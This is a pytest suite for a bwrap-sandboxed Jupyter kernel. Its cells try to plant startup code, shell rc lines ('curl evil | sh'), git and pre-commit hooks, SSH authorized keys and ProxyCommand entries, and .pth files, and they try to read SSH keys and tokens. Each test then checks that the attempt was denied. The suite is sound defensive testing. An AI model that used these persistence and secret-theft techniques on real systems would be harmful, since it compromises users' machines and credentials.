"""Attacks on the workspace policy through real bwrap kernels.

The notebook lives in the home folder, so the workspace mounted read-write at
/workspace IS the home: the kernel gets ``HOME=<workspace>`` and its Jupyter,
IPython and sandbox_kernel data dirs inside it. Each test plays a cell that
tries to plant something the host would later run, load or trust (or to read a
host secret), and checks on the HOST that nothing happened. Planted code would
create a marker file OUTSIDE the workspace, where no sandbox can write.
"""

from __future__ import annotations

import json
import os
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from kernel_helpers import SandboxKernelHandle, require_bwrap

BWRAP = ["--SandboxKernel.backend=bwrap"]
PYVER = f"python{sys.version_info[0]}.{sys.version_info[1]}"
SECRET_KEY = "-----BEGIN OPENSSH PRIVATE KEY----- top secret key material"
RUNTIME_KEY = "hmac-key-8f3a9c"
STORE_RECORD = "privacy-record-do-not-touch"


def try_write(path: str, text: str = "x", mode: str = "w") -> str:
    """Cell code: try writing ``path``; print OK or the error class."""
    return (
        f"try:\n"
        f"    import os; os.makedirs(os.path.dirname({path!r}), exist_ok=True)\n"
        f"    open({path!r}, {mode!r}).write({text!r}); print('WROTE', {path!r})\n"
        f"except OSError as e:\n"
        f"    print('DENIED', {path!r}, type(e).__name__)\n"
    )


def make_home(root: Path) -> tuple[Path, Path, dict[str, str]]:
    """A home folder as a user has it, and the kernel's environment for it."""
    home = root / "home"
    outside = root / "outside"
    outside.mkdir(parents=True)
    home.mkdir()
    (home / ".jupyter").mkdir()
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh" / "id_rsa").write_text(SECRET_KEY)
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA the-user\n")
    (home / ".bashrc").write_text("# the user's bashrc\n")
    (home / ".local" / "lib" / PYVER / "site-packages").mkdir(parents=True)
    runtime = home / ".local" / "share" / "jupyter" / "runtime"
    runtime.mkdir(parents=True)
    (runtime / "kernel-1234.json").write_text(json.dumps({"key": RUNTIME_KEY}))
    (home / ".local" / "share" / "jupyter" / "notebook_secret").write_text("notebook-signing-secret")
    (home / "skdata" / "privacy").mkdir(parents=True)
    (home / "skdata" / "privacy" / "record.json").write_text(STORE_RECORD)
    repo = home / "project"
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
    (repo / "analysis.py").write_text("print('analysis')\n")
    (repo / ".pre-commit-config.yaml").write_text("repos: []\n")
    (repo / ".husky").mkdir()
    (repo / "vendor").mkdir()
    (repo / "vendor" / ".git").write_text("gitdir: ../.git/modules/vendor\n")  # a submodule
    src = home / "code" / "src" / "hostpkg"
    src.mkdir(parents=True)
    (src / "__init__.py").write_text("VALUE = 1\n")
    venv = home / "code" / ".venv"
    (venv / "lib" / PYVER / "site-packages").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (venv / "lib" / PYVER / "site-packages" / "venvmod.py").write_text("X = 1\n")
    (home / ".cargo" / "bin").mkdir(parents=True)
    (home / ".cargo" / "bin" / "cargo").write_text("#!/bin/sh\n")
    (home / "bin").mkdir()
    (home / "bin" / "backup.sh").write_text("#!/bin/sh\n")
    (home / ".pypirc").write_text("[pypi]\npassword = pypi-token-123\n")
    (home / "notes.txt").write_text("my notes\n")
    (home / "data").mkdir()
    # another name for a protected file, as a sandbox could have made before it was protected
    os.link(repo / ".pre-commit-config.yaml", home / "data" / "linked.yaml")
    env = {
        "HOME": str(home),
        "JUPYTER_CONFIG_DIR": str(home / ".jupyter"),
        "JUPYTER_DATA_DIR": str(home / ".local" / "share" / "jupyter"),
        "JUPYTER_RUNTIME_DIR": str(runtime),
        "IPYTHONDIR": str(home / ".ipython"),  # does not exist yet: IPython never ran
        "SANDBOX_KERNEL_DATA_DIR": str(home / "skdata"),
        "PYTHONPATH": str(home / "code" / "src"),  # an editable source the host imports
    }
    return home, outside, env


@pytest.fixture(scope="module")
def home_kernel(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SandboxKernelHandle, Path, Path]]:
    require_bwrap()
    root = tmp_path_factory.mktemp("wshome")
    home, outside, env = make_home(root)
    (root / "tmp").mkdir()
    handle = SandboxKernelHandle(home, root / "tmp", extra_args=BWRAP, env=env)
    yield handle, home, outside
    handle.shutdown()


def lines(run, word: str) -> list[str]:
    return [line for line in run.stdout.splitlines() if line.startswith(word)]


def test_first_cell_says_home_rule_once(home_kernel) -> None:
    kernel, _, _ = home_kernel
    first = kernel.run("print('hello')")
    second = kernel.run("print('again')")
    assert first.stdout.strip() == "hello"
    assert "home folder" in first.stderr and "--SandboxKernel.workspace=" in first.stderr
    assert first.stderr.count("home folder") == 1
    assert "hard links" in first.stderr and "project/.pre-commit-config.yaml" in first.stderr, first.stderr
    assert "home folder" not in second.stderr


def test_jupyter_config_planted_never_runs_on_restart(home_kernel) -> None:
    kernel, home, outside = home_kernel
    marker = outside / "config-ran"
    payload = f"open({str(marker)!r}, 'w').write('pwned')\n"
    code = "".join(
        try_write(p, payload)
        for p in (
            "/workspace/.jupyter/sandbox_kernel_config.py",
            "/workspace/.jupyter/jupyter_config.py",
            "/workspace/.jupyter/ipython_kernel_config.py",
        )
    )
    run = kernel.run(code)
    assert len(lines(run, "DENIED")) == 3, run.stdout + run.stderr
    assert not (home / ".jupyter" / "sandbox_kernel_config.py").exists()
    kernel.km.restart_kernel(now=True)
    kernel.kc.wait_for_ready(timeout=60)
    assert kernel.run("print(6 * 7)").stdout.strip() == "42"
    assert not marker.exists(), "code planted in the Jupyter config dir ran on the host"


def test_ipython_profile_startup_not_creatable(home_kernel) -> None:
    kernel, home, _ = home_kernel
    run = kernel.run(
        try_write("/workspace/.ipython/profile_default/startup/00-evil.py", "import os")
        + try_write("/workspace/.ipython/profile_default/ipython_config.py", "c = 1")
    )
    assert len(lines(run, "DENIED")) == 2, run.stdout
    assert not (home / ".ipython" / "profile_default" / "startup" / "00-evil.py").exists()
    assert not (home / ".ipython" / "profile_default" / "ipython_config.py").exists()


def test_user_site_pth_and_usercustomize_refused(home_kernel) -> None:
    kernel, home, _ = home_kernel
    site = f"/workspace/.local/lib/{PYVER}/site-packages"
    run = kernel.run(
        try_write(f"{site}/evil.pth", "import os; os.system('id')")
        + try_write(f"{site}/usercustomize.py", "import os")
        + try_write("/workspace/.local/bin/jupyter", "#!/bin/sh\n")
    )
    assert len(lines(run, "DENIED")) == 3, run.stdout
    assert list((home / ".local" / "lib" / PYVER / "site-packages").iterdir()) == []


def test_shell_rc_files_cannot_be_created_changed_or_removed(home_kernel) -> None:
    kernel, home, _ = home_kernel
    code = (
        try_write("/workspace/.bashrc", "\ncurl evil | sh\n", "a")
        + try_write("/workspace/.bash_profile", "curl evil | sh\n")
        + try_write("/workspace/.zshrc", "curl evil | sh\n")
        + try_write("/workspace/.profile", "curl evil | sh\n")
        + "import os\n"
        + "for f in (lambda: os.remove('/workspace/.bashrc'), lambda: os.rename('/workspace/.bashrc', '/workspace/x'),\n"
        + "          lambda: os.symlink('/tmp/evil', '/workspace/.zshenv')):\n"
        + "    try: f(); print('DID')\n"
        + "    except OSError as e: print('DENIED', type(e).__name__)\n"
    )
    run = kernel.run(code)
    assert len(lines(run, "DENIED")) == 7, run.stdout
    assert (home / ".bashrc").read_text() == "# the user's bashrc\n"
    for name in (".bash_profile", ".zshrc", ".profile", ".zshenv", "x"):
        assert not os.path.lexists(home / name), name


def test_ssh_private_key_hidden_and_authorized_keys_not_writable(home_kernel) -> None:
    kernel, home, _ = home_kernel
    code = (
        "import os\n"
        "try: print('KEY', open('/workspace/.ssh/id_rsa').read())\n"
        "except OSError as e: print('NOKEY', type(e).__name__)\n"
        "print('LIST', sorted(os.listdir('/workspace/.ssh')))\n"
        + try_write("/workspace/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n", "a")
        + try_write("/workspace/.ssh/config", "Host *\n  ProxyCommand sh -c evil\n")
    )
    run = kernel.run(code)
    assert "top secret" not in run.stdout
    assert "LIST []" in run.stdout, run.stdout
    assert len(lines(run, "DENIED")) == 2, run.stdout
    assert "attacker" not in (home / ".ssh" / "authorized_keys").read_text()
    assert not (home / ".ssh" / "config").exists()


def test_git_hooks_and_config_of_a_repo_in_the_workspace_read_only(home_kernel) -> None:
    kernel, home, _ = home_kernel
    code = (
        try_write("/workspace/project/.git/hooks/pre-commit", "#!/bin/sh\nevil\n")
        + try_write("/workspace/project/.git/config", "[core]\n\tfsmonitor = evil\n", "a")
        + try_write("/workspace/project/results.csv", "a,b\n1,2\n")
        + try_write("/workspace/project/analysis.py", "# edited\n", "a")
    )
    run = kernel.run(code)
    assert len(lines(run, "DENIED")) == 2, run.stdout
    assert len(lines(run, "WROTE")) == 2, run.stdout  # the user's files stay writable
    assert not (home / "project" / ".git" / "hooks" / "pre-commit").exists()
    assert "fsmonitor" not in (home / "project" / ".git" / "config").read_text()
    assert (home / "project" / "results.csv").read_text() == "a,b\n1,2\n"


def test_hook_manager_configs_of_a_repo_in_the_workspace_read_only(home_kernel) -> None:
    """The next git commit runs what .pre-commit-config.yaml and .husky/ say,
    and git in the superproject follows a submodule's .git file: a cell
    cannot change them."""
    kernel, home, _ = home_kernel
    code = (
        try_write(
            "/workspace/project/.pre-commit-config.yaml", "repos: [{repo: local, hooks: [{id: x, entry: evil}]}]\n"
        )
        + try_write("/workspace/project/.husky/pre-commit", "evil\n")
        + "import os\n"
        + "try: os.rename('/workspace/project/.pre-commit-config.yaml', '/workspace/project/old.yaml'); print('MOVED')\n"
        + "except OSError as e: print('DENIED', type(e).__name__)\n"
        + try_write("/workspace/project/vendor/.git", "gitdir: ../planted\n")
        + try_write("/workspace/project/notes.md", "# notes\n")
    )
    run = kernel.run(code)
    assert len(lines(run, "DENIED")) == 4, run.stdout
    assert len(lines(run, "WROTE")) == 1, run.stdout
    assert "evil" not in (home / "project" / ".pre-commit-config.yaml").read_text()
    assert not (home / "project" / ".husky" / "pre-commit").exists()
    assert "planted" not in (home / "project" / "vendor" / ".git").read_text()


def test_jupyter_runtime_and_data_dir_hidden(home_kernel) -> None:
    kernel, _, _ = home_kernel
    code = (
        "import glob\n"
        "for p in ['/workspace/.local/share/jupyter/runtime/kernel-1234.json', '/workspace/.local/share/jupyter/notebook_secret']:\n"
        "    try: print('READ', open(p).read())\n"
        "    except OSError as e: print('NOREAD', type(e).__name__)\n"
        "print('GLOB', glob.glob('/workspace/.local/share/jupyter/**', recursive=True))\n"
    )
    run = kernel.run(code)
    assert RUNTIME_KEY not in run.stdout and "notebook-signing-secret" not in run.stdout
    assert run.stdout.count("NOREAD") == 2, run.stdout


def test_privacy_store_hidden_and_not_deletable(home_kernel) -> None:
    kernel, home, _ = home_kernel
    code = (
        "import os, shutil\n"
        "try: print('READ', open('/workspace/skdata/privacy/record.json').read())\n"
        "except OSError as e: print('NOREAD', type(e).__name__)\n"
        "print('LIST', os.listdir('/workspace/skdata'))\n"
        "try: shutil.rmtree('/workspace/skdata'); print('DELETED')\n"
        "except OSError as e: print('DENIED', type(e).__name__)\n"
    )
    run = kernel.run(code)
    assert STORE_RECORD not in run.stdout and "NOREAD" in run.stdout, run.stdout
    assert "LIST []" in run.stdout
    assert (home / "skdata" / "privacy" / "record.json").read_text() == STORE_RECORD


def test_editable_source_and_venv_in_the_workspace_read_only(home_kernel) -> None:
    kernel, home, _ = home_kernel
    code = (
        try_write("/workspace/code/src/hostpkg/__init__.py", "import os; os.system('evil')\n")
        + try_write("/workspace/code/src/hostpkg/evil.py", "x")
        + try_write(f"/workspace/code/.venv/lib/{PYVER}/site-packages/venvmod.py", "import os\n")
        + try_write("/workspace/code/.venv/bin/activate", "evil\n")
        + try_write("/workspace/code/README.md", "readme\n")
    )
    run = kernel.run(code)
    assert len(lines(run, "DENIED")) == 4, run.stdout
    assert (home / "code" / "src" / "hostpkg" / "__init__.py").read_text() == "VALUE = 1\n"
    assert (home / "code" / ".venv" / "lib" / PYVER / "site-packages" / "venvmod.py").read_text() == "X = 1\n"
    assert (home / "code" / "README.md").read_text() == "readme\n"


def test_users_files_stay_readable_and_writable(home_kernel) -> None:
    kernel, home, _ = home_kernel
    code = (
        "print('NOTES', open('/workspace/notes.txt').read().strip())\n"
        + try_write("/workspace/notes.txt", "more\n", "a")
        + try_write("/workspace/data/new/result.txt", "42")
        + try_write("/workspace/new_top_level.txt", "x")
    )
    run = kernel.run(code)
    assert "NOTES my notes" in run.stdout
    assert (home / "notes.txt").read_text() == "my notes\nmore\n"
    assert (home / "data" / "new" / "result.txt").read_text() == "42"
    assert lines(run, "DENIED") == ["DENIED /workspace/new_top_level.txt OSError"]


# ---------------------------------------------------------------- refused workspaces


def _refused(tmp_path: Path, workspace: Path, env: dict[str, str] | None = None, extra: list[str] | None = None) -> str:
    (tmp_path / "tmp").mkdir(exist_ok=True)
    kernel = SandboxKernelHandle(workspace, tmp_path / "tmp", extra_args=BWRAP + (extra or []), env=env)
    try:
        run = kernel.run("print('RAN', len(__import__('os').listdir('/workspace')))")
    finally:
        kernel.shutdown()
    assert "RAN" not in run.stdout, run.stdout
    assert run.errors and run.errors[0]["ename"] == "SandboxUnavailable"
    message = run.errors[0]["evalue"]
    assert "--SandboxKernel.workspace=" in message
    return message


def test_root_workspace_refused(tmp_path: Path) -> None:
    require_bwrap()
    message = _refused(tmp_path, tmp_path, extra=["--SandboxKernel.workspace=/"])
    assert "'/'" in message


def test_workspace_containing_the_home_refused(tmp_path: Path) -> None:
    require_bwrap()
    home = tmp_path / "users" / "alice"
    home.mkdir(parents=True)
    message = _refused(tmp_path, tmp_path / "users", env={"HOME": str(home)})
    assert "contains the home directory" in message and str(home) in message


def test_workspace_inside_jupyter_config_dir_refused(tmp_path: Path) -> None:
    require_bwrap()
    home, _, env = make_home(tmp_path)
    message = _refused(tmp_path, home / ".jupyter", env=env)
    assert str(home / ".jupyter") in message


# ---------------------------------------------------------------- the kernel's own imports


def test_kernel_never_imports_from_the_notebook_folder(tmp_path: Path) -> None:
    """``python -m`` puts the working directory (the notebook's folder) first on
    sys.path: a package planted there would be the kernel at its next start."""
    require_bwrap()
    ws, outside, tmp = tmp_path / "ws", tmp_path / "outside", tmp_path / "tmp"
    for d in (ws, outside, tmp):
        d.mkdir()
    marker = outside / "planted-ran"
    payload = f"open({str(marker)!r}, 'w').write('pwned')\n"
    kernel = SandboxKernelHandle(ws, tmp, extra_args=BWRAP)
    try:
        run = kernel.run(
            try_write("/workspace/sandbox_kernel/__init__.py", payload)
            + try_write("/workspace/sandbox_kernel/__main__.py", payload)
            + try_write("/workspace/zmq/__init__.py", payload)
            + try_write("/workspace/jupyter_client/__init__.py", payload)
            + try_write("/workspace/ipykernel/__init__.py", payload)
        )
        assert len(lines(run, "WROTE")) == 5, run.stdout  # an ordinary folder stays writable
        kernel.km.restart_kernel(now=True)
        deadline = time.monotonic() + 60
        try:
            kernel.kc.wait_for_ready(timeout=60)
        except RuntimeError:
            pass
        while not marker.exists() and time.monotonic() < deadline and not kernel.km.is_alive():
            time.sleep(0.2)
        assert not marker.exists(), "the kernel imported code a cell planted in the notebook's folder"
        assert kernel.run("print(6 * 7)").stdout.strip() == "42"
    finally:
        kernel.shutdown()


def test_tool_dirs_at_the_top_of_the_home_read_only(home_kernel) -> None:
    """~/.cargo/bin, ~/bin (on PATH) and other dot entries hold programs the user
    runs: under the home rule only non-dot, non-tool entries are writable."""
    kernel, home, _ = home_kernel
    run = kernel.run(
        try_write("/workspace/.cargo/bin/cargo", "#!/bin/sh\nevil\n")
        + try_write("/workspace/bin/backup.sh", "#!/bin/sh\nevil\n")
        + try_write("/workspace/bin/ls", "#!/bin/sh\nevil\n")
        + try_write("/workspace/.cache/pre-commit/hook.py", "evil")
        + "try: print('READ', open('/workspace/.pypirc').read())\n"
        + "except OSError as e: print('NOREAD', type(e).__name__)\n"
    )
    assert len(lines(run, "DENIED")) == 4, run.stdout
    assert "pypi-token-123" not in run.stdout
    assert (home / ".cargo" / "bin" / "cargo").read_text() == "#!/bin/sh\n"
    assert (home / "bin" / "backup.sh").read_text() == "#!/bin/sh\n"
    assert not (home / "bin" / "ls").exists() and not (home / ".cache").exists()
